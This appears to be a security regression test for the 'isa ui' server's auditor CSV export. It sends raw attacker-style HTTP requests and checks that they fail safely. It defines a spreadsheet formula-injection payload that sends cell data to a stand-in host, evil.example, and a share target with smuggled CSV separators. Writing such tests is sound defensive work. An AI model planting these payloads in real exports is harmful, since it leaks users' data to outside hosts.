@@ -1,0 +1,146 @@
+"""test_attack_ui.py: an attacker's requests to isa ui's part 2 (the upload,
+the actions, the auditor's pages, the verification of an export), raw over
+http.client and sockets: each is refused as it should be, none crashes isa
+ui or leaves a file or descriptor behind, none writes a title to its log.
+
+No browser: one deployment, a few `isa ui`s, plain HTTP (what a page on
+another port, a rebinding site or a hostile program could send).
+"""
+
+import atexit
+import csv
+import http.client
+import io
+import json
+import os
+import socket
+import sys
+import time
+import unittest
+import urllib.parse
+from pathlib import Path
+
+import harness
+
+TITLE = "Attack test: Operation Nightjar"   # never in isa ui's log
+# A share's target, kept in the audit log as typed: with the CSV's separator
+# and quote in it, and one that a spreadsheet would run as a formula.
+TARGET = 'user:a,"b"'
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+
+
+class Reply:
+    def __init__(self, status, headers, body):
+        self.status = status
+        self.headers = {k.lower(): v for k, v in headers}
+        self.body = body
+
+    def json(self):
+        return json.loads(self.body)
+
+
+def request(ui, method, path, headers=None, body=None, chunked=False):
+    """One raw request to ui (its own Host); the Reply."""
+    conn = http.client.HTTPConnection("127.0.0.1", ui.port, timeout=harness.READY_SECONDS)
+    try:
+        conn.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
+        conn.putheader("Host", ui.host)
+        for k, v in (headers or {}).items():
+            conn.putheader(k, v)
+        if chunked:
+            conn.putheader("Transfer-Encoding", "chunked")
+            conn.endheaders()
+            if body:
+                conn.send(b"%x\r\n%s\r\n" % (len(body), body))
+            conn.send(b"0\r\n\r\n")
+        else:
+            if body is not None:
+                conn.putheader("Content-Length", str(len(body)))
+            conn.endheaders(body)
+        r = conn.getresponse()
+        return Reply(r.status, r.getheaders(), r.read())
+    finally:
+        conn.close()
+
+
+def raw(ui, data, read=True):
+    """data sent on a plain socket, which is then closed (half-way through
+    a body, if data says less than its Content-Length); what came back."""
+    s = socket.create_connection(("127.0.0.1", ui.port), timeout=harness.READY_SECONDS)
+    try:
+        s.sendall(data)
+        if not read:
+            return b""
+        s.shutdown(socket.SHUT_WR)
+        out = b""
+        while True:
+            try:
+                b = s.recv(65536)
+            except ConnectionResetError:
+                break
+            if not b:
+                break
+            out += b
+        return out
+    finally:
+        s.close()
+
+
+class AttackTest(unittest.TestCase):
+
+    @classmethod
+    def setUpClass(cls):
+        cls.out = harness.out_dir(Path(__file__).stem)
+        cls.deployment = harness.Deployment(cls.out)
+        atexit.register(cls.deployment.stop)
+        cls.deployment.start()
+        d = cls.deployment
+        cls.doc = d.put("council-lead", b"attack test body\n", TITLE, cls="OFFICIAL",
+                        to="agency:hcc")
+        # Reasons a member of the board may write, kept in the audit log.
+        d.isa("council-lead", "share", cls.doc, "--to", "user:police-lead", "--reason", FORMULA)
+        d.isa("council-lead", "share", cls.doc, "--to", TARGET, "--reason", "x", check=False)
+        cls.auditor = d.ui("auditor")
+        cls.aud = harness.http_login(cls.auditor)
+        cls.member = d.ui("council-lead")
+        cls.mem = harness.http_login(cls.member)
+        cls.mem_csrf = request(cls.member, "GET", "/api/session",
+                               cls.mem.headers()).json()["csrf"]
+
+    @classmethod
+    def tearDownClass(cls):
+        cls.deployment.stop()
+
+    def alive(self, ui, s, what):
+        """ui still answers (it did not crash on what came before)."""
+        self.assertIsNone(ui.proc.poll(), f"isa ui exited after {what}")
+        r = request(ui, "GET", "/api/whoami", s.headers())
+        self.assertEqual(r.status, 200, f"after {what}: {r.body!r}")
+
+    def post_headers(self, **more):
+        return self.mem.headers(Origin=self.member.origin, X_CSRF_Token=self.mem_csrf,
+                                **more)
+
+    # -- the auditor's CSV download ------------------------------------------
+
+    def csv_rows(self):
+        r = request(self.auditor, "GET", "/api/audit/csv?action=share&k=" + self.aud.key,
+                    {"Cookie": self.aud.cookie})
+        self.assertEqual(r.status, 200, r.body[:200])
+        return list(csv.reader(io.StringIO(r.body.decode("utf-8"), newline="")))
+
+    def test_csv_cell_with_comma_and_quote(self):
+        # A cell that must be quoted (the target of a refused share, as the
+        # member typed it, with a comma and quotes) once crashed the download
+        # (and `isa audit --csv`): the escaped cell was freed from its end.
+        rows = self.csv_rows()
+        self.alive(self.auditor, self.aud, "the CSV download")
+        targets = [row[rows[0].index("target")] for row in rows[1:]]
+        self.assertIn(TARGET, targets)
+        r = self.deployment.isa("auditor", "audit", "--action", "share", "--csv", check=False)
+        self.assertEqual(r.returncode, 0, r.stderr)
+        self.assertEqual(list(csv.reader(io.StringIO(r.stdout, newline=""))), rows)
+
+
+if __name__ == "__main__":
+    harness.main()
